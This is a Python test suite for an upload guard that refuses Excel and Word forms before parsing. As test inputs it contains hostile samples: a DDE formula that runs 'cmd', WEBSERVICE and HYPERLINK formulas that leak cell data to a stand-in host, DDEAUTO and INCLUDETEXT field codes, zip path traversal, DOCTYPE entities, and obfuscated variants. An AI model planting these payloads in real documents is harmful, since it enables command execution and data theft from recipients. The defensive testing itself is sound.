"""Forms that are refused before anything parses them, each with its stable code."""

from collections.abc import Callable
from io import BytesIO
from typing import Any

import pytest
from docx import Document
from openpyxl import Workbook

from intake.filling import guard
from intake.filling.limits import MAX_FORM_BYTES
from intake.problems import FileRefused
from tests.filling.making import ledger, letter, part_of, saved, with_part

SHEET = "xl/worksheets/sheet1.xml"
RELS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
TEMPLATE = b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://x/t.dotx" TargetMode="External"/>'


def _refused(content: bytes, kind: str) -> str:
    with pytest.raises(FileRefused) as refused:
        guard.check(content, kind)
    return refused.value.problem.code


def _sheet(change: Callable[[bytes], bytes]) -> bytes:
    content = ledger()
    return with_part(content, SHEET, change(part_of(content, SHEET)))


def _formula(text: str) -> bytes:
    book = Workbook()
    sheet: Any = book.active
    sheet["A1"] = text
    return saved(book)


def test_forms_as_offices_send_them_pass() -> None:
    guard.check(ledger(), "xlsx")
    guard.check(letter(), "docx")


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "file_empty"),
        (b"x" * (MAX_FORM_BYTES + 1), "form_too_large"),
        (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), "workbook_locked"),
        (b"\xd0\xcf\x11\xe0", "workbook_old"),
        (b"<html>", "signature_differs"),
        (ledger()[:2000], "file_damaged"),
        (letter(), "signature_differs"),
        (with_part(ledger(), "xl/vbaProject.bin", b"x"), "form_active"),
        (with_part(ledger(), "xl/embeddings/a.bin", b"x"), "form_active"),
        (with_part(ledger(), "xl/externalLinks/externalLink1.xml", b"<x/>"), "form_outside"),
        (with_part(ledger(), "xl/connections.xml", b"<x/>"), "form_outside"),
        (with_part(ledger(), "../evil.xml", b"<x/>"), "archive_unsafe"),
        (with_part(ledger(), "XL/workbook.xml", b"<x/>"), "archive_unsafe"),
        (with_part(ledger(), "x.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'), "form_doctype"),
        (with_part(ledger(), "x.xml", '<?xml version="1.0"?><!DOCTYPE x><x/>'.encode("utf-16")), "form_doctype"),
        (with_part(ledger(), "x.xml", b'<?xml version="1.0" encoding="UTF-7"?><x/>'), "form_doctype"),
        (with_part(ledger(), "x.xml", b" " * (21 * 1024 * 1024)), "form_too_large"),
        (_formula('=WEBSERVICE("http://x/"&B1)'), "form_outside"),
        (_formula('=IF(A2>1,HYPERLINK("http://x/"&B1),1)'), "form_outside"),
        (_formula("=cmd|'/C calc'!A0"), "form_outside"),
        (_sheet(lambda text: text.replace(b'r="A1"', b'r="A1048576"')), "too_many_rows"),
        (_sheet(lambda text: text.replace(b'r="A1"', b"r='ZZZ1'")), "too_many_columns"),
        (_sheet(lambda text: text.replace(b'ref="A1:H1"', b'ref="A1:H1048576"')), "too_many_rows"),
        (_sheet(lambda text: text.replace(b'ref="A1:H1"', b'ref="A1:&#72;1048576"')), "too_many_rows"),
        (_sheet(lambda text: text.replace(b'ref="A1:H1"', b'ref="A1:?"')), "file_damaged"),
        (with_part(ledger(), "xl/x.dat", b"\xef\xbb\xbf <!DOCTYPE x><x/>"), "form_doctype"),
        (with_part(ledger(), "xl/x.xml", b"<x:f xmlns:x='u'>WEB<![CDATA[SERV]]>&#73;CE(A1)</x:f>"), "form_outside"),
        (with_part(ledger(), "xl/x.xml", b"<definedName>RTD(A1)</definedName>"), "form_outside"),
        (with_part(ledger(), "xl/x.xml", b"<formula1>A1&lt;IMAGE(A1)</formula1>"), "form_outside"),
        (with_part(ledger(), "xl/x.xml", b"<x>"), "file_damaged"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_workbook_that_is_no_harmless_form_is_refused(content: bytes, code: str) -> None:
    assert _refused(content, "xlsx") == code


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (with_part(letter(), "word/vbaProject.bin", b"x"), "form_active"),
        (with_part(letter(), "word/_rels/settings.xml.rels", RELS % TEMPLATE), "form_outside"),
        (with_part(letter(), "word/f.xml", b"<w:instrText xmlns:w='u'>DDEAUTO c:\\\\x</w:instrText>"), "form_outside"),
        (with_part(letter(), "word/f.xml", b"<p><instrText> DDE</instrText><instrText>AUTO c</instrText></p>"), "form_outside"),
        (
            with_part(letter(), "word/f.xml", b"<p><instrText>PAGE</instrText><fldChar/><instrText>DDE c</instrText></p>"),
            "form_outside",
        ),
        (with_part(letter(), "word/f.xml", b"<fldSimple instr='INCLUDETEXT c'/>"), "form_outside"),
        (with_part(letter(), "word/f.xml", b'<gridSpan val="100000000"/>'), "too_many_columns"),
        (with_part(letter(), "word/f.xml", b'<gridSpan val="&#57;9999999"/>'), "too_many_columns"),
        (with_part(letter(), "word/f.xml", b"<x>" + b"<tc/>" * 100_001 + b"</x>"), "form_too_many_cells"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_document_that_is_no_harmless_form_is_refused(content: bytes, code: str) -> None:
    assert _refused(content, "docx") == code


def test_a_link_to_click_is_fine() -> None:
    document = Document()
    document.part.relate_to(
        "http://example.org/", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink", is_external=True
    )
    made = BytesIO()
    document.save(made)
    guard.check(made.getvalue(), "docx")


@pytest.mark.parametrize("text", ['=HYPERLINK("#汇总!A1","汇总")', '=A1&"|"&汇总!A1', '="WEBSERVICE("&A1', "=SUM(A2:A9)"])
def test_formulas_that_fetch_nothing_are_fine(text: str) -> None:
    guard.check(_formula(text), "xlsx")


def test_many_merged_cells_cost_no_more_than_they_say() -> None:
    book = Workbook()
    sheet: Any = book.active
    for row in range(1, 6):
        sheet.merged_cells.add(f"A{row * 800}:GH{row * 800 + 700}")  # said, without the cells themselves
    assert _refused(saved(book), "xlsx") == "form_too_many_cells"


@pytest.mark.parametrize("name", ["form.xls", "form.xlsm", "form.docm", "form", "form.pdf"])
def test_other_kinds_of_file_are_no_forms(name: str) -> None:
    with pytest.raises(FileRefused) as refused:
        guard.kind_of(name)
    assert refused.value.problem.code == "form_kind"
